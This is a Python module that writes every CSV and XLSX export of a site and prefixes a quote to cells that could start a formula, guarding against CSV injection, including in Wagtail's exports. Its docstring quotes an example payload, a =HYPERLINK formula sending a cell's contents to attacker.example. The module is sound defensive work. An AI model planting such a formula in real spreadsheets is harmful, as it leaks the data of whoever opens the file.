"""The one writer of every CSV and XLSX file the site produces, so that no cell can run as a formula.

A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a formula (and some also after a
leading tab, carriage return or spaces, which they strip), so a name such as
`=HYPERLINK("http://attacker.example/?d="&B2,"Larry")` typed by a learner would run on a lead's computer.
Following OWASP's advice on CSV injection, such text is written with a single quote in front, which the
spreadsheet shows as text. Text is always text: in an XLSX every string is a string cell (never a
formula); only values that really are numbers (int, float, Decimal) or dates are written as such.

Nothing else in the project may use `csv.writer` or openpyxl to write a file a person downloads:
tests/security/test_formula_injection.py fails if it does.
"""
import csv
import io
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Characters that start a formula (OWASP), and the control characters after which some programs still do.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Leading characters a spreadsheet may strip on import (spaces, line breaks, no-break space) before
# deciding the cell is a formula: text whose first other character starts a formula is neutralised too.
STRIPPED_ON_IMPORT = " \t\r\n\u00a0\ufeff"
NUMBERS = (int, float, Decimal)


def neutralise(text: str) -> str:
    """`text` as it may safely stand in a cell: with a quote in front if it could start a formula."""
    if text[:1] in FORMULA_STARTS or text.lstrip(STRIPPED_ON_IMPORT)[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def is_dangerous(text: str) -> bool:
    """Would a spreadsheet read this cell text as a formula? (For checks and tests.)"""
    return neutralise(text) != text


def _is_number(value) -> bool:
    return isinstance(value, NUMBERS) and not isinstance(value, bool)


def csv_cell(value) -> str:
    """A value as CSV text: numbers as written, None empty, everything else neutralised text."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, (date, time)):
        return value.isoformat()
    return neutralise(str(value))


def xlsx_value(value):
    """A value as an XLSX cell holds it: a number, a date (without zone), None, or neutralised text."""
    if value is None or _is_number(value):
        return value
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, (date, time)):
        return value
    return neutralise(str(value))


class CsvFile:
    """A CSV file built row by row; `content()` gives UTF-8 bytes with a byte order mark for Excel."""

    content_type = CSV_TYPE
    extension = "csv"

    def __init__(self):
        self._out = io.StringIO()
        self._writer = csv.writer(self._out)
        self._sheets = 0

    def sheet(self, title: str = "") -> "CsvFile":
        """A CSV has one sheet: a second 'sheet' follows the first after a blank line."""
        if self._sheets:
            self.row([])
        self._sheets += 1
        return self

    def row(self, values: Iterable, *, bold: bool = False) -> None:
        self._writer.writerow([csv_cell(value) for value in values])

    def content(self) -> bytes:
        # A byte order mark so Excel opens the file as UTF-8 (names with accents, the en dash in quarter names).
        return ("\ufeff" + self._out.getvalue()).encode("utf-8")


class XlsxFile:
    """An XLSX workbook built sheet by sheet and row by row, in openpyxl's write-only (streaming) mode."""

    content_type = XLSX_TYPE
    extension = "xlsx"

    def __init__(self):
        from openpyxl import Workbook

        self._workbook = Workbook(write_only=True)
        self._names: set[str] = set()
        self._sheet = None

    def sheet(self, title: str = "Sheet") -> "XlsxFile":
        self._sheet = self._workbook.create_sheet(title=_sheet_name(title, self._names))
        return self

    def row(self, values: Iterable, *, bold: bool = False) -> None:
        if self._sheet is None:
            self.sheet()
        self._sheet.append([xlsx_cell(self._sheet, value, bold=bold) for value in values])

    def content(self) -> bytes:
        if self._sheet is None:
            self.sheet("Report").row(["Nothing to show."])
        out = io.BytesIO()
        self._workbook.save(out)
        return out.getvalue()


def xlsx_cell(sheet, value, *, bold: bool = False):
    """One write-only cell; text is always a string cell, whatever it looks like."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=xlsx_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl would otherwise make text starting with "=" a formula
    if bold:
        cell.font = Font(bold=True)
    return cell


def spreadsheet(file_format: str) -> CsvFile | XlsxFile:
    """A new, empty file of the format asked for ("csv" or "xlsx")."""
    if file_format == "xlsx":
        return XlsxFile()
    if file_format == "csv":
        return CsvFile()
    raise ValueError(f"Unknown spreadsheet format {file_format!r}: choose csv or xlsx.")


def _sheet_name(title: str, used: set) -> str:
    # Excel refuses these characters and names over 31 characters, and names must be unique.
    base = "".join(ch for ch in title if ch not in "[]:*?/\\")[:28] or "Sheet"
    name, n = base, 2
    while name in used:
        name, n = f"{base[:25]} {n}", n + 1
    used.add(name)
    return name


def guard_wagtail_exports() -> None:
    """Make Wagtail's list exports (ReportView, ModelViewSet `list_export`, form submissions) write our cells.

    Wagtail writes its CSV exports without neutralising formulas; those views are Wagtail's, so the
    one place every one of them passes is its SpreadsheetExportMixin's per-row methods, replaced here.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_cells_guarded", False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value

    def preprocess_field_value(self, field, value, export_format):
        value = original_preprocess(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return csv_cell(value)
        return xlsx_value(value)

    original_generate = SpreadsheetExportMixin.generate_xlsx_row

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in original_generate(self, worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"
            yield cell

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row
    SpreadsheetExportMixin._cells_guarded = True
